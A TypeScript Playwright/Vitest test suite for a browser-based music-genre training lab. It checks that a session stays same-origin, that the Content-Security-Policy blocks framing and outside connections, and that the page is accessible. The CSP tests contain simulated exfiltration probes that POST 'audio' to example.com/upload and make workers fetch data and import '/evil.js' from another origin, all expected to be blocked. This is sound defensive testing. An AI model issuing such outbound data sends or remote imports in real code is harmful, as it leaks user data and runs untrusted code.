import { createRequire } from 'node:module';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { encodeWav, synthClip } from '../fixtures/audio';
import { writeTree } from '../fixtures/dataset-tree';
import { launchChromium } from '../support/browser';
import { DIST } from '../support/build-page';
import { chooseDataset, openLab } from '../support/lab-page';

const require = createRequire(import.meta.url);

/** The focused element (looking through shadow roots), named as a screen reader would: label first. */
async function focusedName(page: Page): Promise<string> {
  return page.evaluate(() => {
    let el = document.activeElement as Element | null;
    while (el?.shadowRoot?.activeElement) el = el.shadowRoot.activeElement;
    if (!el) return '';
    const label = (el as HTMLInputElement).labels?.[0]?.innerText.trim();
    return el.getAttribute('aria-label') || label || (el as HTMLElement).innerText?.trim() || el.tagName;
  });
}

describe('a whole session stays on the machine and is usable by everyone', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let errors: string[];
  const requests: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true });
    context.on('request', (r) => requests.push(r.url()));
    ({ page, errors } = await openLab(context, inject('baseUrl')));
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('open, choose a dataset, extract, train, evaluate, download, classify: no request to another origin', async () => {
    const tree = writeTree({ clipsPerGenre: 4, seconds: 6, extras: false });
    await chooseDataset(page, tree.dir);
    const epochs = page.getByLabel('Epochs', { exact: true });
    await epochs.fill('1');
    await epochs.press('Tab');
    const units = page.getByLabel('LSTM units (each of 2 layers)');
    await units.fill('8');
    await units.press('Tab');
    await page.getByRole('button', { name: 'Train' }).click();
    await page.getByTestId('test-accuracy').waitFor({ timeout: 120_000 });
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download model' }).click();
    await download;
    const dir = mkdtempSync(join(tmpdir(), 'gtzan-trust-'));
    writeFileSync(join(dir, 'clip.wav'), encodeWav({ samples: synthClip(1, 6, 22050, 5), sampleRate: 22050 }));
    await page.getByLabel('Choose a clip to classify').setInputFiles(join(dir, 'clip.wav'));
    await page.getByTestId('clip-probabilities').waitFor({ timeout: 60_000 });

    const origin = new URL(inject('baseUrl')).origin;
    const foreign = requests.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
    expect(foreign).toEqual([]);
    // The session did load the page's own files, workers and WASM: the recording works.
    expect(requests.some((u) => u.endsWith('.wasm'))).toBe(true);
    expect(requests.some((u) => /train\.worker/.test(u))).toBe(true);
    expect(errors).toEqual([]);
  });

  it('carries a Content-Security-Policy that blocks any connection to another origin', async () => {
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("default-src 'self'");
    const before = requests.length;
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const fetched = await fetch('https://example.com/upload', { method: 'POST', body: 'audio' }).then(() => 'sent', () => 'blocked');
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.violations).toContain('connect-src');
    expect(requests.slice(before).filter((u) => u.includes('example.com'))).toEqual([]);
  });

  it('the policy reaches every worker of the lab: a cross-origin fetch and a remote import fail there too', async () => {
    const hits: string[] = [];
    const other = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('export const x = 1;');
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
    const port = (other.address() as AddressInfo).port;
    try {
      const scripts = readdirSync(join(DIST, 'assets')).filter((f) => /\.worker-.*\.js$/.test(f));
      expect(scripts.length).toBeGreaterThanOrEqual(2);
      for (const script of scripts) {
        const started = page.waitForEvent('worker');
        await page.evaluate((url) => {
          (window as unknown as { probe: Worker }).probe = new Worker(url, { type: 'module' });
        }, `./assets/${script}`);
        const worker = await started;
        // A string, so the test runner does not rewrite import() for Node.
        const base = `http://localhost:${port}`;
        const outcome = await worker.evaluate(`(async () => ({
          fetched: await fetch('${base}/from-worker?data=audio').then(() => 'sent', () => 'blocked'),
          imported: await import('${base}/evil.js').then(() => 'ran', () => 'blocked'),
        }))()`);
        expect(outcome, script).toEqual({ fetched: 'blocked', imported: 'blocked' });
        await page.evaluate(() => (window as unknown as { probe: Worker }).probe.terminate());
      }
      expect(hits).toEqual([]);
    } finally {
      other.close();
    }
  });

  it('cannot be framed by another site', async () => {
    const other = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${inject('baseUrl')}"></iframe>`);
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
    try {
      const framer = await context.newPage();
      const violations: string[] = [];
      framer.on('console', (m) => violations.push(m.text()));
      await framer.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
      await expect.poll(() => violations.join('\n')).toMatch(/frame-ancestors/);
      const frame = framer.frames().find((f) => f !== framer.mainFrame());
      expect(await frame?.locator('gtzan-lab').count().catch(() => 0) ?? 0).toBe(0);
      await framer.close();
    } finally {
      other.close();
    }
  });

  it('has no serious or critical accessibility violations (axe-core)', async () => {
    // Through DevTools, not a <script> tag: the page's own policy rightly refuses inline scripts.
    await page.evaluate(readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8'));
    const violations = await page.evaluate(async () => {
      const axe = (window as unknown as { axe: { run(ctx: Document, opts: object): Promise<{ violations: { id: string; impact: string; nodes: { target: unknown }[] }[] }> } }).axe;
      const r = await axe.run(document, { resultTypes: ['violations'] });
      return r.violations.map((v) => ({ id: v.id, impact: v.impact, targets: v.nodes.slice(0, 3).map((n) => JSON.stringify(n.target)) }));
    });
    const serious = violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    expect(serious, JSON.stringify(serious, null, 2)).toEqual([]);
  });

  it('reaches the main controls with the keyboard alone', async () => {
    await page.reload();
    const seen = new Set<string>();
    for (let i = 0; i < 40; i++) {
      await page.keyboard.press('Tab');
      seen.add(await focusedName(page));
    }
    for (const name of ['Choose dataset folder', 'Open data.json', 'Epochs', 'Load model files']) {
      expect([...seen].some((s) => s.includes(name)), `${name} in ${[...seen].join(' | ')}`).toBe(true);
    }
  });
});
